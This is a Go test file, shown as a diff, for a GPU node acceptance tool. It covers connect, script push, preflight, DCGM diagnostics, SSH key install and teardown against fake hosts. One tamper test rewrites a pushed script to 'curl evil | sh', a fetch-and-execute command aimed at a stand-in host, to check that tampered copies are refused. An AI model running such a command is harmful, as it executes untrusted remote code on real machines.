@@ -1,0 +1,286 @@
+package phases
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"strings"
+	"sync"
+	"testing"
+
+	"gpuaccept/orchestrator/record"
+	"gpuaccept/remote/fake"
+	"gpuaccept/scripts"
+	"gpuaccept/scripts/standins"
+)
+
+// standinTool runs a stand-in GPU tool of profile as the node would: its
+// stdout and stderr together, and its exit status.
+func standinTool(profile, tool string, args ...string) (string, int) {
+	var out bytes.Buffer
+	rc := standins.Main(profile, tool, args, &out, &out)
+	return out.String(), rc
+}
+
+// answerAsStandin makes h answer preflight.sh and dcgmi diag as a node of
+// the stand-in profile does: preflight.sh's sections from the stand-in
+// tools, in the script's framing.
+func answerAsStandin(h *fake.Host, profile string) {
+	onScript(h, "preflight.sh", func(c *fake.Call, _ []string) fake.Reply {
+		sections := map[string]string{
+			"hostname":   c.Host.Name() + "\n",
+			"machine-id": "3d1219c7c4c5404aaa1f6d2a48adfd" + c.Host.Name() + "\n",
+			"kernel":     "5.15.0-105-generic\n",
+			"os-release": "NAME=\"Ubuntu\"\nPRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\n",
+			"cpu":        "model name\t: Intel(R) Xeon(R) Platinum 8480+\n224\n",
+			"meminfo":    "MemTotal:       2113389512 kB\n",
+		}
+		rc := map[string]int{}
+		for name, argv := range map[string][]string{
+			"nvidia-smi-L":     {"nvidia-smi", "-L"},
+			"nvidia-smi-query": {"nvidia-smi", "--query-gpu=index,name,uuid,serial,pci.bus_id,memory.total,driver_version,vbios_version", "--format=csv"},
+			"nvidia-smi-q":     {"nvidia-smi", "-q"},
+			"nvidia-smi-topo":  {"nvidia-smi", "topo", "-m"},
+			"dcgmi-discovery":  {"dcgmi", "discovery", "-l"},
+			"ibstat":           {"ibstat"},
+			"ibv_devinfo":      {"ibv_devinfo"},
+		} {
+			sections[name], rc[name] = standinTool(profile, argv[0], argv[1:]...)
+		}
+		return fake.Reply{Stdout: preflightOutput(sections, rc)}
+	})
+	h.On(`^dcgmi diag `, func(c *fake.Call) fake.Reply {
+		out, code := standinTool(profile, "dcgmi", strings.Fields(c.Command)[1:]...)
+		return fake.Reply{Stdout: out, Exit: code}
+	})
+}
+
+const gpuQuote = `quote:
+  gpu_model: NVIDIA H100 80GB HBM3
+  gpus_per_node: 8
+  gpu_memory_gib: 80
+  form_factor: SXM
+phases:
+  diag:
+    level: 1
+`
+
+// TestConnectFailsOnlyTheUnreachableNode: connect dials through the
+// window; a node it cannot reach fails CONN-001 and WIN-001 and takes no
+// part after, the others go on; teardown visits only reached nodes.
+func TestConnectFailsOnlyTheUnreachableNode(t *testing.T) {
+	inv := fakeInventory(t, 3, "")
+	f := fakeFleet(inv)
+	f.Unreachable("h2", errors.New("h2: dial tcp 192.0.2.12:22: connect: no route to host"))
+	r := runFake(t, inv, f)
+	if v := verdictOf(t, r, "CONN-001", "h2"); v.Status != record.Fail || !strings.Contains(v.Detail, "no route to host") {
+		t.Errorf("CONN-001 h2: %+v", v)
+	}
+	for _, n := range []string{"h1", "h3"} {
+		if v := verdictOf(t, r, "CONN-001", n); v.Status != record.Pass {
+			t.Errorf("CONN-001 %s: %+v", n, v)
+		}
+		var reached Reached
+		if err := json.Unmarshal(resultOf(t, r, "connect", map[string]int{"h1": 0, "h3": 2}[n]).Data, &reached); err != nil || reached.Hostname != n || reached.Addr == "" {
+			t.Errorf("%s reached: %+v %v", n, reached, err)
+		}
+	}
+	if v := verdictOf(t, r, "WIN-001", "h2"); v.Status != record.Fail || v.Measured != "quarantined" {
+		t.Errorf("WIN-001 h2: %+v", v)
+	}
+	if n := f.Host("h2").Ran(`.`); n != 0 {
+		t.Errorf("%d commands ran on the unreachable node", n)
+	}
+	if f.Host("h1").Ran(`^GPUACCEPT_NODE=`) != 1 || f.Host("h1").Open() != 0 {
+		t.Errorf("h1: teardown ran %d times, %d connection(s) left open", f.Host("h1").Ran(`^GPUACCEPT_NODE=`), f.Host("h1").Open())
+	}
+}
+
+// TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush.
+func TestToolsPushesEveryScriptCheckedAndQuarantinesAFailedPush(t *testing.T) {
+	inv := fakeInventory(t, 2, "")
+	f := fakeFleet(inv)
+	f.Host("h2").FailUploads(func(p string) error {
+		if strings.HasSuffix(p, "/stage.sh") {
+			return errors.New("h2: upload " + p + ": sftp: no space left on device")
+		}
+		return nil
+	})
+	r := runFake(t, inv, f)
+	var pushed ToolsPushed
+	if err := json.Unmarshal(resultOf(t, r, "tools", 0).Data, &pushed); err != nil {
+		t.Fatal(err)
+	}
+	if len(pushed.Files) != len(scripts.Pushed()) {
+		t.Fatalf("pushed %d files, want %d", len(pushed.Files), len(scripts.Pushed()))
+	}
+	for _, s := range scripts.Pushed() {
+		got, ok := f.Host("h1").File(toolsDir(r.ID, "h1") + "/" + s.Name)
+		if !ok || got.SHA256 != scripts.SHA256(s.Body) {
+			t.Errorf("h1: %s not pushed intact: %+v", s.Name, got)
+		}
+	}
+	h2 := resultOf(t, r, "tools", 1)
+	if h2.Outcome != record.Failed || !strings.Contains(h2.Error, "push stage.sh") || !strings.Contains(h2.Error, "no space left") {
+		t.Errorf("h2 tools: %+v", h2)
+	}
+	if q := r.Nodes[1]; !q.Quarantined || !strings.Contains(q.Reason, "tools failed") {
+		t.Errorf("h2 not quarantined: %+v", q)
+	}
+}
+
+// TestPreflightReadsTheStandinsAndJudgesTheFleet: preflight's facts come
+// from preflight.sh's sections (stand-in tools in their real formats), are
+// kept as the node's facts, and are judged against the quote and the
+// fleet; a node whose copy of the script is not the pushed one fails
+// (toolCmd's exit 96) and is quarantined.
+func TestPreflightReadsTheStandinsAndJudgesTheFleet(t *testing.T) {
+	inv := fakeInventory(t, 3, gpuQuote)
+	f := fakeFleet(inv)
+	answerAsStandin(f.Host("h1"), "h100")
+	answerAsStandin(f.Host("h2"), "h100-other-driver")
+	answerAsStandin(f.Host("h3"), "h100")
+	r := runFake(t, inv, f, Preflight)
+	if v := verdictOf(t, r, "GPU-001", "h1"); v.Status != record.Pass || v.Measured != "NVIDIA H100 80GB HBM3" {
+		t.Errorf("GPU-001 h1: %+v", v)
+	}
+	if v := verdictOf(t, r, "GPU-002", "h2"); v.Status != record.Fail || v.Measured != "1" {
+		t.Errorf("GPU-002 h2 (a one-GPU VM): %+v", v)
+	}
+	if v := verdictOf(t, r, "GPU-005", "h2"); v.Status != record.Fail || !strings.Contains(v.Measured, "590.48.01") {
+		t.Errorf("GPU-005 h2 (another driver): %+v", v)
+	}
+	var facts Facts
+	if err := json.Unmarshal(r.Nodes[0].Facts, &facts); err != nil || facts.GPUCount != 8 || facts.Driver == "" {
+		t.Errorf("h1's facts in run.json: %+v %v", facts, err)
+	}
+}
+
+// TestPreflightRefusesACopyThatIsNotThePushedOne: toolCmd's check.
+func TestPreflightRefusesACopyThatIsNotThePushedOne(t *testing.T) {
+	inv := fakeInventory(t, 2, gpuQuote)
+	f := fakeFleet(inv)
+	answerAsStandin(f.Host("h1"), "h100")
+	answerAsStandin(f.Host("h2"), "h100")
+	// Someone on h2 rewrites preflight.sh once the push checked it.
+	f.Host("h2").Tamper(func(p string, file fake.File) fake.File {
+		if strings.HasSuffix(p, "/preflight.sh") {
+			file.Data, file.SHA256 = []byte("curl evil | sh\n"), "0badc0de"
+		}
+		return file
+	})
+	r := runFake(t, inv, f, Preflight)
+	res := resultOf(t, r, "preflight", 1)
+	if res.Outcome != record.Failed || !strings.Contains(res.Error, "exit 96") || !strings.Contains(res.Error, "not the copy pushed") {
+		t.Errorf("h2 preflight: %+v", res)
+	}
+	if !r.Nodes[1].Quarantined {
+		t.Errorf("h2 ran on with a tampered script: %+v", r.Nodes[1])
+	}
+	if res := resultOf(t, r, "preflight", 0); res.Outcome != record.OK {
+		t.Errorf("h1 preflight: %+v", res)
+	}
+}
+
+// TestDiagFailsAndQuarantinesTheFailingNode: dcgmi diag -r 1 -j from the
+// stand-ins; the failing profile's node fails DIAG-001 with the tests that
+// failed, and is left out of what follows.
+func TestDiagFailsAndQuarantinesTheFailingNode(t *testing.T) {
+	inv := fakeInventory(t, 2, gpuQuote)
+	f := fakeFleet(inv)
+	answerAsStandin(f.Host("h1"), "h100")
+	answerAsStandin(f.Host("h2"), "h100-diag-fail")
+	r := runFake(t, inv, f, Preflight, Diag)
+	if v := verdictOf(t, r, "DIAG-001", "h1"); v.Status != record.Pass && v.Status != record.Warn {
+		t.Errorf("DIAG-001 h1: %+v", v)
+	}
+	v := verdictOf(t, r, "DIAG-001", "h2")
+	if v.Status != record.Fail || v.Detail == "" {
+		t.Errorf("DIAG-001 h2: %+v", v)
+	}
+	if !r.Nodes[1].Quarantined || !strings.Contains(r.Nodes[1].Reason, "diag failed") {
+		t.Errorf("h2: %+v", r.Nodes[1])
+	}
+	if n := f.Host("h1").Ran(`^dcgmi diag -r 1 -j$`); n != 1 {
+		t.Errorf("h1 ran dcgmi diag %d times", n)
+	}
+}
+
+// TestWindowKeyInstallsOneKeyPairTrustingThePeersVerifiedKeys: every node
+// gets the same pair (private half on stdin, never in argv), the
+// authorized line carries the window's mark, and known_hosts holds each
+// peer's key as its connection verified it.
+func TestWindowKeyInstallsOneKeyPairTrustingThePeersVerifiedKeys(t *testing.T) {
+	inv := fakeInventory(t, 3, "phases:\n  allreduce: {enabled: true, launcher: mpirun}\n")
+	f := fakeFleet(inv)
+	var mu sync.Mutex
+	var args [][]string
+	var stdins []string
+	for _, h := range f.Hosts() {
+		onScript(h, "windowkey.sh", func(c *fake.Call, a []string) fake.Reply {
+			mu.Lock()
+			defer mu.Unlock()
+			args, stdins = append(args, a), append(stdins, string(c.Stdin))
+			return fake.Reply{}
+		})
+	}
+	r := runFake(t, inv, f, WindowKey)
+	if len(args) != 3 {
+		t.Fatalf("windowkey.sh ran %d times", len(args))
+	}
+	for i, a := range args {
+		if len(a) != 4 || !strings.HasSuffix(a[1], KeyMark(r.ID)) || a[1] != args[0][1] {
+			t.Errorf("run %d: args %q", i, a)
+		}
+		if !strings.Contains(stdins[i], "BEGIN OPENSSH PRIVATE KEY") || stdins[i] != stdins[0] {
+			t.Errorf("run %d: the private key is not on stdin, or differs", i)
+		}
+		if strings.Contains(strings.Join(a, " "), "PRIVATE KEY") {
+			t.Errorf("run %d: the private key is in argv", i)
+		}
+		for _, peer := range []string{"192.0.2.11 ssh-ed25519 FAKE-h1", "192.0.2.12 ssh-ed25519 FAKE-h2", "192.0.2.13 ssh-ed25519 FAKE-h3"} {
+			if !strings.Contains(a[2], peer) {
+				t.Errorf("run %d: known_hosts lacks %q: %q", i, peer, a[2])
+			}
+		}
+	}
+	var k KeyInstalled
+	if err := json.Unmarshal(resultOf(t, r, "windowkey", 2).Data, &k); err != nil || k.Fingerprint == "" || k.AuthorizedKey != args[0][1] {
+		t.Errorf("recorded %+v %v", k, err)
+	}
+}
+
+// TestTeardownRedialsALostNodeAndJudgesTheWindow: a node whose connection
+// dropped during the window is reached again for teardown; the window's
+// directories are named on its command line; WIN-001 passes a node that
+// stayed.
+func TestTeardownRedialsALostNodeAndJudgesTheWindow(t *testing.T) {
+	inv := fakeInventory(t, 2, gpuQuote)
+	f := fakeFleet(inv)
+	answerAsStandin(f.Host("h1"), "h100")
+	answerAsStandin(f.Host("h2"), "h100")
+	// h2 drops its connection right after preflight answered.
+	onScript(f.Host("h2"), "preflight.sh", func(c *fake.Call, a []string) fake.Reply {
+		return fake.Reply{Stdout: preflightOutput(h100(t), nil), Drop: true}
+	})
+	r := runFake(t, inv, f, Preflight)
+	if f.Dials("h2") != 2 {
+		t.Errorf("h2 dialled %d times, want 2 (connect, teardown)", f.Dials("h2"))
+	}
+	td := resultOf(t, r, "teardown", 1)
+	if td.Outcome != record.OK {
+		t.Errorf("teardown h2: %+v", td)
+	}
+	calls := f.Host("h2").Calls()
+	last := calls[len(calls)-1]
+	// Without the window's mark: teardown must not end itself.
+	if !strings.Contains(last.Command, " teardown "+r.ID+" ") || last.Env["GPUACCEPT_RUN"] != "" {
+		t.Errorf("teardown's command: %.200s (env %v)", last.Command, last.Env)
+	}
+	if v := verdictOf(t, r, "WIN-001", "h1"); v.Status != record.Pass {
+		t.Errorf("WIN-001 h1: %+v", v)
+	}
+	if v := verdictOf(t, r, "WIN-001", "h2"); v.Status != record.Fail {
+		t.Errorf("WIN-001 h2 (quarantined at preflight when its connection dropped): %+v", v)
+	}
+}
